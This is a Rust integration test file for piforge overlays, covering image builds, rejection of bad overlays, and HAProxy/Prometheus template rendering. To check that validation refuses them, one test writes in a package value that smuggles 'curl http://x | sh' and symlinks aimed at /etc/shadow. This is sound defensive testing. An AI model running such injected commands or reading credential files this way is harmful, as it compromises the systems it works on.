@@ -1,0 +1,620 @@
+//! Overlays end to end with the real programs.
+//!
+//! - Every shipped overlay (`overlays/` of the repository) builds into an image with the real
+//!   `piforge` binary on a miniature Trixie image, with roles, and `piforge inspect` shows them.
+//! - Each bad input fails the build with a message naming the problem, and leaves no output.
+//! - The live templates rendered by the node's real renderer (`piforge-node render --once`,
+//!   the binary next to this test's, or `PIFORGE_NODE_BIN`) from a member list served on
+//!   loopback: the lb backend for 0, 1 and 3 web members passes `haproxy -c`, and a real
+//!   haproxy with no web member answers 503; the monitor targets pass `promtool check config`.
+//!
+//! Needs haproxy and prometheus (promtool) installed: a missing one fails the test with the
+//! package to install. The member list is served by a few lines of HTTP here, not by agents
+//! (the services tests run haproxy against live agents).
+
+mod common;
+
+use std::fs;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+use common::{MiniOpts, Release};
+use piforge::arch::Arch;
+use piforge_config::Card;
+
+fn shipped() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../overlays")
+}
+
+struct Env {
+    dir: tempfile::TempDir,
+}
+
+impl Env {
+    fn new() -> Env {
+        let dir = tempfile::tempdir().unwrap();
+        common::payload::write_payload(&dir.path().join("payload"), &[Arch::Arm64]);
+        Env { dir }
+    }
+
+    fn path(&self, rel: &str) -> PathBuf {
+        self.dir.path().join(rel)
+    }
+
+    fn piforge(&self, args: &[&str]) -> Output {
+        Command::new(env!("CARGO_BIN_EXE_piforge"))
+            .args(args)
+            .env("PIFORGE_CONFIG_DIR", self.path("config"))
+            .env("PIFORGE_CACHE_DIR", self.path("cache"))
+            .env_remove("PIFORGE_PAYLOAD_DIR")
+            .env_remove("PIFORGE_OVERLAYS_DIR")
+            .env_remove("RUST_LOG")
+            .current_dir(self.dir.path())
+            .output()
+            .expect("running piforge")
+    }
+
+    /// `piforge build` from `base` with the overlays in `overlays`.
+    fn build(&self, base: &Path, overlays: &Path, extra: &[&str]) -> Output {
+        let payload = self.path("payload");
+        let mut args = vec![
+            "build",
+            "--from",
+            base.to_str().unwrap(),
+            "--out",
+            "out",
+            "--cluster",
+            "lab",
+            "--payload",
+            payload.to_str().unwrap(),
+            "--overlays",
+            overlays.to_str().unwrap(),
+        ];
+        args.extend_from_slice(extra);
+        self.piforge(&args)
+    }
+}
+
+fn stderr(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+fn copy_tree(from: &Path, to: &Path) {
+    fs::create_dir_all(to).unwrap();
+    for e in fs::read_dir(from).unwrap() {
+        let e = e.unwrap();
+        if e.file_type().unwrap().is_dir() {
+            copy_tree(&e.path(), &to.join(e.file_name()));
+        } else {
+            fs::copy(e.path(), to.join(e.file_name())).unwrap();
+        }
+    }
+}
+
+#[test]
+fn every_shipped_overlay_builds_into_an_image_and_inspect_shows_it() {
+    let env = Env::new();
+    let base = common::mini_image(Release::Trixie, &MiniOpts::default());
+    let out = env.build(
+        base.path(),
+        &shipped(),
+        &[
+            "--cards",
+            "4",
+            "--overlay",
+            "web",
+            "--overlay",
+            "metrics",
+            "--role",
+            "1=lb,metrics",
+            "--role",
+            "3=alert",
+            "--role",
+            "4=monitor,metrics",
+        ],
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    let img = env.path("out/lab.img");
+    common::fsck_fat(&img, base.boot.0, base.boot.1).expect("fsck.fat -n clean");
+
+    // Every overlay's files are on the FAT, byte for byte.
+    for name in ["alert", "lb", "metrics", "monitor", "web"] {
+        let rel = format!("{name}/overlay.toml");
+        let on_fat = common::mtools_read(&img, base.boot.0, &format!("piforge/overlays/{rel}"))
+            .unwrap_or_else(|| panic!("{rel} is not on the image"));
+        assert_eq!(on_fat, fs::read(shipped().join(&rel)).unwrap(), "{rel}");
+    }
+    let tmpl = common::mtools_read(
+        &img,
+        base.boot.0,
+        "piforge/overlays/lb/templates/backend.cfg.hbs",
+    )
+    .unwrap();
+    assert_eq!(
+        tmpl,
+        fs::read(shipped().join("lb/templates/backend.cfg.hbs")).unwrap()
+    );
+
+    // Roles replace the defaults and tag the card; cards without a role get the defaults.
+    let card = |k: u32| {
+        Card::parse(&fs::read_to_string(env.path(&format!("out/cards/pi-{k:02}.toml"))).unwrap())
+            .unwrap()
+    };
+    let c1 = card(1);
+    assert_eq!(c1.overlays, ["lb", "metrics"]);
+    assert_eq!(c1.node.tags["role"], "lb");
+    let c2 = card(2);
+    assert_eq!(c2.overlays, ["web", "metrics"]);
+    assert!(
+        !c2.node.tags.contains_key("role"),
+        "the web overlay's own tag says role=web"
+    );
+    assert_eq!(card(3).overlays, ["alert"]);
+    assert_eq!(card(3).node.tags["role"], "alert");
+    assert_eq!(card(4).overlays, ["monitor", "metrics"]);
+
+    // inspect: names, descriptions, tags, templates, handlers; the cloneable card's defaults.
+    let out = env.piforge(&["inspect", img.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let text = String::from_utf8(out.stdout).unwrap();
+    for want in [
+        " lb  HAProxy on :80, round robin over the alive members tagged role=web",
+        "    packages   haproxy\n",
+        "    tags       role=lb\n",
+        "    template   backend.cfg.hbs -> /etc/haproxy/piforge/50-backend.cfg (live), then \
+         `systemctl try-reload-or-restart haproxy.service`\n",
+        "*web  lighttpd on :80",
+        "    template   index.html.hbs -> /var/www/html/index.html (static)\n",
+        "    tags       http-port=80 role=web\n",
+        "*metrics  prometheus-node-exporter",
+        "    handler    /usr/local/bin/piforge-alert on member-failed member-leave member-join\n",
+        "    mqtt       127.0.0.1:1883\n",
+        " monitor  Prometheus scraping",
+    ] {
+        assert!(text.contains(want), "missing {want:?} in:\n{text}");
+    }
+    let out = env.piforge(&["inspect", "--json", img.to_str().unwrap()]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let names: Vec<&str> = json["overlays"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|o| o["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["alert", "lb", "metrics", "monitor", "web"]);
+    assert_eq!(json["overlays"][1]["manifest"]["template"][0]["live"], true);
+}
+
+/// One broken overlay set: a fresh copy of the shipped overlays, changed by `break_it`.
+fn refused(break_it: impl FnOnce(&Path), args: &[&str], want: &[&str]) {
+    let env = Env::new();
+    let base = common::mini_image(Release::Trixie, &MiniOpts::default());
+    let dir = env.path("overlays");
+    copy_tree(&shipped(), &dir);
+    break_it(&dir);
+    let mut all = vec!["--cards", "3"];
+    all.extend_from_slice(args);
+    let out = env.build(base.path(), &dir, &all);
+    let err = stderr(&out);
+    assert!(!out.status.success(), "{args:?} should fail");
+    for w in want {
+        assert!(err.contains(w), "{args:?}: {w:?} not in:\n{err}");
+    }
+    assert!(
+        !env.path("out").exists(),
+        "{args:?}: a refused build leaves no output"
+    );
+}
+
+fn append(p: &Path, text: &str) {
+    let mut s = fs::read_to_string(p).unwrap();
+    s.push_str(text);
+    fs::write(p, s).unwrap();
+}
+
+#[test]
+fn bad_overlays_and_roles_fail_the_build_with_the_reason_and_no_output() {
+    // Unknown key in overlay.toml.
+    refused(
+        |d| append(&d.join("lb/overlay.toml"), "colour = \"red\"\n"),
+        &["--role", "1=lb"],
+        &["overlay lb", "lb/overlay.toml", "unknown field `colour`"],
+    );
+    // A template named in overlay.toml that is not there.
+    refused(
+        |d| fs::remove_file(d.join("web/templates/index.html.hbs")).unwrap(),
+        &["--overlay", "web"],
+        &["overlay web", "\"index.html.hbs\"", "is missing"],
+    );
+    // Template syntax.
+    refused(
+        |d| append(&d.join("lb/templates/backend.cfg.hbs"), "{{#each alive}}\n"),
+        &["--role", "1=lb"],
+        &["overlay lb: checking templates/backend.cfg.hbs", "syntax"],
+    );
+    // A variable the renderer does not provide: live templates have no hostname, and the
+    // branch is never taken by a render without web members.
+    refused(
+        |d| {
+            let p = d.join("lb/templates/backend.cfg.hbs");
+            let t = fs::read_to_string(&p).unwrap();
+            fs::write(&p, t.replace("server {{name}}", "server {{hostname}}")).unwrap();
+        },
+        &["--role", "1=lb"],
+        &[
+            "overlay lb: checking templates/backend.cfg.hbs",
+            "line 8:",
+            "unknown variable `hostname`",
+            "a member has: name, addr, ip",
+        ],
+    );
+    // A role that names no overlay.
+    refused(
+        |_| {},
+        &["--role", "2=nosuch"],
+        &["no overlay \"nosuch\"", "known: alert, lb"],
+    );
+    refused(
+        |_| {},
+        &["--role", "2="],
+        &["--role 2=\"\" names no overlay"],
+    );
+    refused(|_| {}, &["--role", "4=lb"], &["there is no card 4"]);
+    refused(
+        |_| {},
+        &["--role", "1=lb", "--role", "1=web"],
+        &["card 1 already has a role"],
+    );
+    // Packages with shell metacharacters.
+    refused(
+        |d| {
+            let p = d.join("web/overlay.toml");
+            let t = fs::read_to_string(&p).unwrap();
+            let evil = "packages = [\"lighttpd; curl http://x | sh\"]";
+            fs::write(&p, t.replace("packages = [\"lighttpd\"]", evil)).unwrap();
+        },
+        &["--role", "2=web"],
+        &["overlay web", "packages", "is not a Debian package name"],
+    );
+    // A files/ entry that is a symlink out of the overlay.
+    refused(
+        |d| std::os::unix::fs::symlink("/etc/shadow", d.join("web/files-link")).unwrap(),
+        &["--overlay", "web"],
+        &["overlay web: unexpected", "files-link"],
+    );
+    refused(
+        |d| {
+            let f = d.join("lb/files/etc");
+            std::os::unix::fs::symlink("/etc/shadow", f.join("shadow")).unwrap();
+        },
+        &["--role", "1=lb"],
+        &["lb/files/etc/shadow is a symlink to /etc/shadow outside the overlay"],
+    );
+}
+
+/// Serves `members` as the node API's `GET /api/members` (and an empty `/api/events`) on
+/// loopback until the process ends; returns `host:port`.
+fn serve_members(members: serde_json::Value) -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = listener.local_addr().unwrap().to_string();
+    std::thread::spawn(move || {
+        for s in listener.incoming() {
+            let Ok(mut s) = s else { continue };
+            let mut line = String::new();
+            let mut r = BufReader::new(s.try_clone().unwrap());
+            if r.read_line(&mut line).is_err() {
+                continue;
+            }
+            // Drain the headers.
+            let mut h = String::new();
+            while r.read_line(&mut h).is_ok_and(|n| n > 2) {
+                h.clear();
+            }
+            let body = if line.starts_with("GET /api/members") {
+                members.to_string()
+            } else if line.starts_with("GET /api/events") {
+                "{\"next\":0,\"events\":[]}".to_string()
+            } else {
+                String::new()
+            };
+            let _ = write!(
+                s,
+                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
+                 Connection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    addr
+}
+
+fn member(name: &str, ip: &str, state: &str, tags: &[(&str, &str)]) -> serde_json::Value {
+    let tags: serde_json::Map<String, serde_json::Value> = tags
+        .iter()
+        .map(|(k, v)| (k.to_string(), (*v).into()))
+        .collect();
+    serde_json::json!({
+        "name": name, "addr": format!("{ip}:7946"), "ip": ip, "port": 7946, "generation": 1,
+        "state": state, "phi": 0.1, "threshold": 8.0, "tags": tags, "uptime": 5,
+        "last_seen": 0.2,
+    })
+}
+
+/// The piforge-node binary: `PIFORGE_NODE_BIN`, else the one cargo built next to this test.
+fn node_bin() -> PathBuf {
+    if let Some(p) = std::env::var_os("PIFORGE_NODE_BIN").filter(|v| !v.is_empty()) {
+        return PathBuf::from(p);
+    }
+    let exe = std::env::current_exe().unwrap();
+    let p = exe.parent().unwrap().parent().unwrap().join("piforge-node");
+    assert!(
+        p.is_file(),
+        "{} missing: the live templates are rendered by the node's real renderer; run \
+         `cargo build -p piforge-node` (cargo test --workspace builds it) or set PIFORGE_NODE_BIN",
+        p.display()
+    );
+    p
+}
+
+/// Renders `template` with `piforge-node render --once` over `members`.
+fn node_render(template: &Path, members: serde_json::Value, dest: &Path) -> String {
+    let http = serve_members(members);
+    let out = Command::new(node_bin())
+        .args(["render", "--once", "--http", &http, "--dest"])
+        .arg(dest)
+        .arg(template)
+        .env_remove("RUST_LOG")
+        .output()
+        .expect("running piforge-node render");
+    assert!(out.status.success(), "render failed: {}", stderr(&out));
+    fs::read_to_string(dest).unwrap()
+}
+
+fn run_ok(cmd: &mut Command) -> String {
+    let out = cmd
+        .output()
+        .unwrap_or_else(|e| panic!("running {cmd:?}: {e}"));
+    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
+    assert!(out.status.success(), "{cmd:?} refused:\n{text}");
+    text
+}
+
+#[test]
+fn lb_backend_rendered_by_the_node_passes_haproxy_for_0_1_and_3_web_members() {
+    let haproxy = common::require_tool("haproxy", "haproxy");
+    let d = tempfile::tempdir().unwrap();
+    let conf = d.path().join("piforge");
+    fs::create_dir_all(&conf).unwrap();
+    fs::copy(
+        shipped().join("lb/files/etc/haproxy/piforge/00-main.cfg"),
+        conf.join("00-main.cfg"),
+    )
+    .unwrap();
+    let template = shipped().join("lb/templates/backend.cfg.hbs");
+    let others = [
+        member("pi-01", "10.0.0.1", "alive", &[("role", "lb")]),
+        member("pi-09", "10.0.0.9", "failed", &[("role", "web")]),
+        member("pi-08", "10.0.0.8", "suspect", &[("role", "web")]),
+        member("pi-07", "10.0.0.7", "alive", &[]),
+    ];
+    let webs = [
+        member(
+            "pi-02",
+            "10.0.0.2",
+            "alive",
+            &[("role", "web"), ("http-port", "80")],
+        ),
+        member(
+            "pi-03",
+            "10.0.0.3",
+            "alive",
+            &[("role", "web"), ("http-port", "8081")],
+        ),
+        member("pi-04", "10.0.0.4", "alive", &[("role", "web")]),
+    ];
+    for n in [0, 1, 3] {
+        let mut ms: Vec<_> = others.to_vec();
+        ms.extend(webs[..n].iter().cloned());
+        let dest = conf.join("50-backend.cfg");
+        let _ = fs::remove_file(&dest);
+        let rendered = node_render(&template, ms.into(), &dest);
+        let servers: Vec<&str> = rendered
+            .lines()
+            .map(str::trim)
+            .filter(|l| l.starts_with("server "))
+            .collect();
+        let want = [
+            "server pi-02 10.0.0.2:80 check",
+            "server pi-03 10.0.0.3:8081 check",
+            "server pi-04 10.0.0.4:80 check",
+        ];
+        assert_eq!(servers, want[..n], "{n} web members:\n{rendered}");
+        assert!(rendered.contains("option httpchk GET /"), "{rendered}");
+        let ok = run_ok(Command::new(&haproxy).arg("-c").arg("-f").arg(&conf));
+        assert!(ok.contains("valid"), "{ok}");
+    }
+}
+
+/// A free loopback port (bound then released).
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+struct Kill(std::process::Child);
+
+impl Drop for Kill {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+#[test]
+fn haproxy_without_web_members_answers_503() {
+    let haproxy = common::require_tool("haproxy", "haproxy");
+    let d = tempfile::tempdir().unwrap();
+    let conf = d.path().join("piforge");
+    fs::create_dir_all(&conf).unwrap();
+    let (port, stats) = (free_port(), free_port());
+    // The shipped config on loopback ports, without dropping privileges or syslog (a test
+    // process may be neither root nor have /dev/log).
+    let main = fs::read_to_string(shipped().join("lb/files/etc/haproxy/piforge/00-main.cfg"))
+        .unwrap()
+        .replace("bind :80", &format!("bind 127.0.0.1:{port}"))
+        .replace("bind :8404", &format!("bind 127.0.0.1:{stats}"))
+        .lines()
+        .filter(|l| !l.trim_start().starts_with("user ") && !l.trim_start().starts_with("group "))
+        .filter(|l| !l.trim_start().starts_with("log /dev/log"))
+        .collect::<Vec<_>>()
+        .join("\n");
+    fs::write(conf.join("00-main.cfg"), main + "\n").unwrap();
+    let template = shipped().join("lb/templates/backend.cfg.hbs");
+    let only_lb = serde_json::json!([member("pi-01", "127.0.0.1", "alive", &[("role", "lb")])]);
+    node_render(&template, only_lb, &conf.join("50-backend.cfg"));
+    let child = Command::new(&haproxy)
+        .arg("-db")
+        .arg("-f")
+        .arg(&conf)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("starting haproxy");
+    let mut child = Kill(child);
+    let start = Instant::now();
+    let resp = loop {
+        if let Ok(mut s) = TcpStream::connect(("127.0.0.1", port)) {
+            write!(s, "GET / HTTP/1.0\r\n\r\n").unwrap();
+            let mut r = String::new();
+            s.read_to_string(&mut r).unwrap();
+            break r;
+        }
+        assert!(child.0.try_wait().unwrap().is_none(), "haproxy exited");
+        assert!(
+            start.elapsed() < Duration::from_secs(10),
+            "haproxy never listened"
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    assert!(resp.starts_with("HTTP/1.1 503"), "{resp}");
+    assert!(resp.contains("No server is available"), "{resp}");
+}
+
+#[test]
+fn monitor_targets_rendered_by_the_node_pass_promtool() {
+    let promtool = common::require_tool("promtool", "prometheus");
+    let d = tempfile::tempdir().unwrap();
+    let ms = serde_json::json!([
+        member(
+            "pi-01",
+            "10.0.0.1",
+            "alive",
+            &[("role", "lb"), ("node-exporter", "9100")]
+        ),
+        member("pi-02", "10.0.0.2", "alive", &[("role", "web")]),
+        member(
+            "pi-03",
+            "10.0.0.3",
+            "failed",
+            &[("role", "web"), ("node-exporter", "9100")]
+        ),
+        member("pi-04", "10.0.0.4", "alive", &[("http-api", "9080")]),
+    ]);
+    let tdir = shipped().join("monitor/templates");
+    let piforge = node_render(
+        &tdir.join("piforge-targets.yml.hbs"),
+        ms.clone(),
+        &d.path().join("piforge-targets.yml"),
+    );
+    assert!(
+        piforge.contains("- targets: [\"10.0.0.4:9080\"]"),
+        "{piforge}"
+    );
+    assert!(
+        !piforge.contains("10.0.0.3"),
+        "failed members are not scraped:\n{piforge}"
+    );
+    let nodes = node_render(
+        &tdir.join("node-exporter-targets.yml.hbs"),
+        ms,
+        &d.path().join("node-exporter-targets.yml"),
+    );
+    assert_eq!(nodes.matches("- targets:").count(), 1, "{nodes}");
+    assert!(nodes.contains("[\"10.0.0.1:9100\"]"), "{nodes}");
+    let cfg = fs::read_to_string(shipped().join("monitor/files/etc/prometheus/piforge.yml"))
+        .unwrap()
+        .replace("/etc/prometheus/", &format!("{}/", d.path().display()));
+    let cfg_path = d.path().join("piforge.yml");
+    fs::write(&cfg_path, cfg).unwrap();
+    let out = run_ok(
+        Command::new(&promtool)
+            .arg("check")
+            .arg("config")
+            .arg(&cfg_path),
+    );
+    assert!(out.contains("SUCCESS"), "{out}");
+    // What Prometheus discovers from the rendered files (its own file_sd code). promtool
+    // reports what it found within --timeout; on a loaded machine that can be too short, so
+    // a mismatch is retried with longer timeouts before it counts.
+    let discover_once = |job: &str, timeout: u32| -> Vec<(String, String)> {
+        let out = Command::new(&promtool)
+            .args([
+                "check",
+                "service-discovery",
+                &format!("--timeout={timeout}s"),
+            ])
+            .arg(&cfg_path)
+            .arg(job)
+            .output()
+            .unwrap();
+        let err = stderr(&out);
+        assert!(
+            out.status.success() && !err.contains("level=error"),
+            "{job}: {err}"
+        );
+        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+        v.as_array()
+            .unwrap()
+            .iter()
+            .map(|t| {
+                let l = &t["labels"];
+                let s = |k: &str| l[k].as_str().unwrap_or("").to_string();
+                (s("__address__"), s("instance"))
+            })
+            .collect()
+    };
+    let discover = |job: &str, want: &[(String, String)]| {
+        let mut got = vec![];
+        for timeout in [2, 5, 15] {
+            got = discover_once(job, timeout);
+            if got == want {
+                break;
+            }
+        }
+        assert_eq!(got, want, "{job}");
+    };
+    let pair = |a: &str, i: &str| (a.to_string(), i.to_string());
+    discover(
+        "piforge",
+        &[
+            pair("10.0.0.1:8080", "pi-01"),
+            pair("10.0.0.2:8080", "pi-02"),
+            pair("10.0.0.4:9080", "pi-04"),
+        ],
+    );
+    discover("node", &[pair("10.0.0.1:9100", "pi-01")]);
+    // Before the first join nobody is tagged: an empty list, not an error.
+    node_render(
+        &tdir.join("node-exporter-targets.yml.hbs"),
+        serde_json::json!([]),
+        &d.path().join("node-exporter-targets.yml"),
+    );
+    discover("node", &[]);
+}
